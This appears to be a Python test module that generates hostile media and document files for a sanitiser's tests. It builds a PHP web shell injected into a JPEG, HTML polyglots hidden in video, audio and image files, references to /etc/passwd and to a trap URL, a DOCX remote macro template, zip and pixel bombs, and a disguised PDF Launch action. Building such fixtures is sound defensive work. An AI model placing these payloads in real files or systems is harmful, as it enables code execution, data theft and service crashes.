"""More files made to harm: two formats in one, lists of other files, boxes that lie, bombs."""

import io
import struct
import subprocess
import zipfile
import zlib
from pathlib import Path

import imageio_ffmpeg
import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.media import media_samples
from tests.media.media_hostile import SCRIPT, docx, zipped

HTML = b"<!doctype html><html>" + SCRIPT + b"</html>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def address(port: int) -> bytes:
    """Somewhere that must never be called."""
    return b"http://127.0.0.1:%d/trap" % port


def sample(folder: Path, name: str) -> bytes:
    path = folder / name
    if not path.exists():
        media_samples.make(path)
    return path.read_bytes()


def box(name: bytes, *parts: bytes) -> bytes:
    content = b"".join(parts)
    return struct.pack(">I", 8 + len(content)) + name + content


# Films

def film_elsewhere(folder: Path, port: int) -> bytes:
    """Its samples are said to be at an address, or in another file of the machine."""
    film = sample(folder, "h264.mov")
    where = film.index(b"dref")
    size = struct.unpack_from(">I", film, where - 4)[0]
    urls = box(b"url ", bytes(4), address(port) + b"\0")
    urls += box(b"alis", bytes(4), b"file:///etc/passwd\0")
    reference = box(b"dref", bytes(4), struct.pack(">I", 2), urls)
    without = film[: where - 4] + film[where - 4 + size :]
    # Grown by what comes in place of what went.
    return _resized(without, (b"moov", b"trak", b"mdia", b"minf", b"dinf"), len(reference) - size,
                    where - 4, reference)


def _resized(film: bytes, path: tuple[bytes, ...], more: int, at: int, inside: bytes) -> bytes:
    content, start = bytearray(film), 0
    for name in path:
        start = content.index(name, start) - 4
        size = struct.unpack_from(">I", content, start)[0]
        struct.pack_into(">I", content, start, size + more)
        start += 8
    content[at:at] = inside
    return bytes(content)


def film_of_many_samples(folder: Path) -> bytes:
    """A thousand million samples of one byte."""
    film = bytearray(sample(folder, "h264.mov"))
    at = film.index(b"stsz") + 4
    struct.pack_into(">III", film, at, 0, 1, 1_000_000_000)
    at = film.index(b"stts") + 4
    struct.pack_into(">IIII", film, at, 0, 1, 1_000_000_000, 1)
    return bytes(film)


def film_of_ages(folder: Path) -> bytes:
    """It says that it lasts for ever."""
    film = bytearray(sample(folder, "h264.mov"))
    struct.pack_into(">I", film, film.index(b"mvhd") + 20, 0xFFFFFFFF)
    return bytes(film)


def boxes_in_boxes() -> bytes:
    inside = b""
    for _ in range(3_000):
        inside = box(b"moov", inside)
    return box(b"ftyp", b"isom", bytes(4)) + inside


def film_with_a_page(folder: Path) -> bytes:
    return sample(folder, "film.mp4") + box(b"free", HTML)


def film_of_a_page(folder: Path) -> bytes:
    """The page comes first, in a box that a browser could take for text."""
    return box(b"ftyp", b"isom", bytes(4), HTML) + sample(folder, "film.mp4")


def film_with_a_font(folder: Path) -> bytes:
    """Subtitles and an attachment, in a Matroska."""
    words = folder / "words.srt"
    words.write_bytes(b"1\n00:00:00,000 --> 00:00:02,000\n" + HTML + b"\n")
    made = folder / "font.mkv"
    command = [imageio_ffmpeg.get_ffmpeg_exe(), "-y", "-loglevel", "error", "-i", words,
               "-attach", words, "-metadata:s:t", "mimetype=text/html", "-c:s", "srt", made]
    subprocess.run(command, check=True)
    return made.read_bytes()


def list_of_files(port: int) -> bytes:
    return (b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:" + address(port)
            + b"|file:///etc/passwd\n#EXT-X-ENDLIST\n")


def wav_of_a_page(folder: Path) -> bytes:
    return sample(folder, "voice.wav") + b"LIST" + struct.pack("<I", len(HTML)) + HTML


def mp3_of_a_page(folder: Path) -> bytes:
    """The page is in the tag before the sound."""
    size = len(HTML) + 10
    tag = b"ID3\3\0\0" + bytes([0, 0, size >> 7, size & 127])
    return (tag + b"TXXX" + struct.pack(">IH", len(HTML), 0) + HTML
            + sample(folder, "voice.mp3")[0:])


# Pictures

def photo_with_a_zip(folder: Path) -> bytes:
    return sample(folder, "photo.jpg") + docx()


def photo_with_a_programme(folder: Path) -> bytes:
    photo = sample(folder, "photo.jpg")
    words = b"<?php system($_GET['c']); ?>" + SCRIPT
    return photo[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(words)) + words + photo[2:]


def drawing_with_a_page() -> bytes:
    texts = PngInfo()
    texts.add_text("Comment", HTML.decode())
    written = io.BytesIO()
    Image.new("RGB", (40, 40), "red").save(written, "PNG", pnginfo=texts)
    return written.getvalue()


def _chunk(name: bytes, content: bytes) -> bytes:
    return (struct.pack(">I", len(content)) + name + content
            + struct.pack(">I", zlib.crc32(name + content)))


def drawing_of_a_folded_text() -> bytes:
    """A comment that unfolds into 200 MB."""
    packed = zlib.compress(bytes(200_000_000), 9)
    head = struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"".join(b"\0" + bytes(24) for _ in range(8)))
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"zTXt", b"a\0\0" + packed)
            + _chunk(b"IDAT", rows) + _chunk(b"IEND", b""))


def drawing_of_black() -> bytes:
    """50 000 × 50 000 black points, whole and valid, in 7 MB."""
    folder = zlib.compressobj(9)
    rows, line = [], bytes(1 + 50_000 // 8)
    for _ in range(50_000):
        rows.append(folder.compress(line))
    rows.append(folder.flush())
    head = struct.pack(">IIBBBBB", 50_000, 50_000, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", b"".join(rows))
            + _chunk(b"IEND", b""))


def webp_of_black() -> bytes:
    """16 383 × 16 383 points in 40 bytes: the largest that the format can say."""
    side = 16_383 - 1
    content = b"\x2f" + struct.pack("<I", side | side << 14) + bytes(20)
    body = b"WEBPVP8L" + struct.pack("<I", len(content)) + content + b"\0"
    return b"RIFF" + struct.pack("<I", len(body)) + body


def photo_of_black(folder: Path) -> bytes:
    """Its header says 65 000 × 65 000."""
    photo = bytearray(sample(folder, "photo.jpg"))
    at = max(photo.find(b"\xff\xc0"), photo.find(b"\xff\xc2"))
    struct.pack_into(">HH", photo, at + 5, 65_000, 65_000)
    return bytes(photo)


def iphone_photo_of_black(folder: Path) -> bytes:
    photo = sample(folder, "photo.heic")
    at = photo.index(b"ispe") + 8
    return photo[:at] + (50_000).to_bytes(4) * 2 + photo[at + 8 :]


def iphone_photo_elsewhere(folder: Path) -> bytes:
    """Its points are said to be where the file ends not."""
    photo = sample(folder, "photo.heic")
    at = photo.index(b"iloc") + 8
    return photo[:at] + b"\xff" * 24 + photo[at + 24 :]


def iphone_photo_of_a_page(folder: Path) -> bytes:
    return sample(folder, "photo.heic") + HTML


# Archives

def nested_bomb() -> bytes:
    """Zeros in a ZIP in a ZIP in a ZIP, ten times each."""
    inside = zipped({"0": bytes(5_000_000)})
    for _ in range(3):
        inside = zipped({f"{n}.zip": inside for n in range(10)})
    return inside


def overlapping_bomb() -> bytes:
    """Five hundred entries that are all the same bytes."""
    content = docx(**{"word/a.xml": bytes(4_000_000)})
    start = content.index(b"PK\x01\x02")
    end = content.index(b"PK\x05\x06")
    entries = content[start:end]
    one = entries[entries.rindex(b"PK\x01\x02") :]
    many = b"".join(one.replace(b"word/a.xml", b"word/%05d" % n) for n in range(500))
    tail = bytearray(content[end:])
    count = entries.count(b"PK\x01\x02") + 500
    struct.pack_into("<HHI", tail, 8, count, count, len(entries) + len(many))
    return content[:start] + entries + many + bytes(tail)


def remote_template(port: int) -> bytes:
    """A document that fetches its macros when it is opened."""
    rels = (b'<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/attachedTemplate" Target="' + address(port)
            + b'" TargetMode="External"/></Relationships>')
    return docx(**{"word/_rels/settings.xml.rels": rels})


def with_stored_entry(name: str, content: bytes) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(name, content)
    return written.getvalue()


# PDF

def endless_pdf() -> bytes:
    """Its table says that the one before it is itself, and its pages are their own children."""
    body = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\n")
    start = len(body)
    table = b"xref\n0 3\n0000000000 65535 f \n%010d 00000 n \n%010d 00000 n \n" % (
        body.index(b"1 0 obj"), body.index(b"2 0 obj"))
    return body + table + b"trailer<</Size 3/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        start, start)


def submits(pdf: pikepdf.Pdf) -> None:
    """A link that would send a form: shown by no reader without a question, and kept."""
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://ecole.test/"))
    pdf.Root.OpenAction = pdf.make_indirect(action)


def spelt_launch(pdf: bytes) -> bytes:
    return pdf.replace(b"/S /Launch", b"/S /La#75nch")


def pdf_with_a_zip(folder: Path) -> bytes:
    return sample(folder, "page.pdf") + zipped({"a.txt": b"a"})
